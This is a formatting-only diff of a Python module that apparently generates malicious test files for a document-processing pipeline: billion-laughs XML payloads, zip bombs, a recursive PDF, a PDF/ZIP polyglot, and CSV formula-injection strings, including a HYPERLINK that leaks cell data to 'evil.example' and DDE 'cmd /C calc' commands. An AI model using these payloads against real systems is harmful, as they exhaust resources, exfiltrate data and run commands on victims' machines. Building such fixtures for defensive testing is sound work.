@@ -11,8 +11,10 @@ import openpyxl
 
 LAUGHS = (
     '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
-    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
-              for i in range(1, 10))
+    + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
+        for i in range(1, 10)
+    )
     + "]>\n"
 )
 
@@ -27,8 +29,10 @@ def zip_bomb(kind: str, inflated_mb: int = 300) -> bytes:
         docx.Document().save(seed)
         part = "word/document.xml"
     out = io.BytesIO()
-    with zipfile.ZipFile(seed) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED,
-                                                       compresslevel=9) as dst:
+    with (
+        zipfile.ZipFile(seed) as src,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
+    ):
         for name in src.namelist():
             if name != part:
                 dst.writestr(name, src.read(name))
@@ -42,8 +46,10 @@ def zip_bomb(kind: str, inflated_mb: int = 300) -> bytes:
 def billion_laughs_docx() -> bytes:
     seed = io.BytesIO()
     docx.Document().save(seed)
-    body = (LAUGHS + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
-            '2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>')
+    body = (
+        LAUGHS + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
+        '2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
+    )
     out = io.BytesIO()
     with zipfile.ZipFile(seed) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
         for name in src.namelist():
@@ -52,9 +58,11 @@ def billion_laughs_docx() -> bytes:
 
 
 def billion_laughs_bpmn() -> bytes:
-    return (LAUGHS + '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" '
-            'targetNamespace="x"><process id="p"><task id="t" name="&lol9;"/></process>'
-            "</definitions>").encode()
+    return (
+        LAUGHS + '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" '
+        'targetNamespace="x"><process id="p"><task id="t" name="&lol9;"/></process>'
+        "</definitions>"
+    ).encode()
 
 
 def recursive_pdf() -> bytes:
@@ -78,8 +86,9 @@ def recursive_pdf() -> bytes:
     xref = len(out)
     out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
     out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
-    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n"
-            "%%EOF\n").encode()
+    out += (
+        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
+    ).encode()
     return bytes(out)
 
 
@@ -92,8 +101,13 @@ def polyglot_pdf_zip(pdf: bytes) -> bytes:
     return pdf + archive.getvalue()
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", "+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+]
 
 
 def formula_csv() -> bytes:
@@ -109,8 +123,10 @@ def formula_csv() -> bytes:
 
 
 def formula_sop() -> bytes:
-    return (b"Supplier payment procedure\n\n"
-            b"1. The clerk enters =HYPERLINK(\"http://evil.example\",\"invoice\") in the ledger.\n"
-            b"2. @SUM(1+1) The manager approves the invoice.\n"
-            b"3. +cmd The finance team pays the supplier.\n"
-            b"4. If the amount is over 5000, the director signs.\n")
+    return (
+        b"Supplier payment procedure\n\n"
+        b'1. The clerk enters =HYPERLINK("http://evil.example","invoice") in the ledger.\n'
+        b"2. @SUM(1+1) The manager approves the invoice.\n"
+        b"3. +cmd The finance team pays the supplier.\n"
+        b"4. If the amount is over 5000, the director signs.\n"
+    )
